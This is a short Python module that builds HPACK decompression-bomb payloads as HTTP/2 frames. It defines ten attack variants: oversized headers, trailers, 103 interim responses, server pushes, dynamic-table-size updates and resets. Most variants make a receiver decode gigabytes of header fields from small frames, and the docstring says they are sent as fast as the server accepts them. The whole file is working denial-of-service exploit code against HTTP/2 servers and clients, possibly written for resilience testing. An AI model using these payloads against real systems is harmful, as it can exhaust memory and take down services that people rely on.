"""HPACK bombs as bytes, which are made once and sent as fast as the server accepts them."""

from frames import END_HEADERS, HEADERS, PUSH, REFERENCE, RESET, block, frame, literal, number, remembered

LARGE = remembered(b"x", b"b" * 4000)
"""A field of 4033 bytes (by HPACK's count) that is added to the dynamic table."""
WEIGHT = 4033
HEAD = literal(b":method", b"POST") + literal(b":scheme", b"http")
HEAD += literal(b":path", b"/nothing") + literal(b":authority", b"x")
STATUS = b"\x88"


# Each function returns the HTTP/2 frames of one attack for one stream, and the size of the header fields that a
# receiver decodes from them. In most attacks, the decoded fields are far larger than the frames.

def trailers(stream):
    return block(stream, HEAD, 0) + block(stream, LARGE + REFERENCE * 78), 79 * WEIGHT


def heads(stream):
    return block(stream, HEAD + LARGE + REFERENCE * 78), 79 * WEIGHT


def references(stream):
    return block(stream, HEAD + LARGE + REFERENCE * 1_160_000), 1_160_001 * WEIGHT


def ignored(stream):
    return block(stream, HEAD + literal(b"Upper", b"x") + LARGE + REFERENCE * 900), 901 * WEIGHT


def table_sizes(stream):
    return block(stream, b"\x20" * 900 + HEAD), 0


def resets(stream):
    return block(stream, HEAD) + frame(RESET, 0, stream, number(8)), 0


CLIENTS = {each.__name__: each for each in (trailers, heads, references, ignored, table_sizes, resets)}


def late_trailers(stream):
    return block(stream, STATUS, 0) + block(stream, LARGE + REFERENCE * 1_000_000), 1_000_001 * WEIGHT


def interim(stream):
    one = frame(HEADERS, END_HEADERS, stream, literal(b":status", b"103") + LARGE + REFERENCE * 14)
    return one * 2000, 2000 * 15 * WEIGHT


def large_head(stream):
    return block(stream, STATUS + LARGE + REFERENCE * 1_000_000), 1_000_001 * WEIGHT


def pushes(stream):
    one = frame(PUSH, END_HEADERS, stream, number(2) + HEAD + LARGE + REFERENCE * 900)
    return one * 100, 100 * 901 * WEIGHT


EXECUTORS = {each.__name__: each for each in (late_trailers, interim, large_head, pushes)}
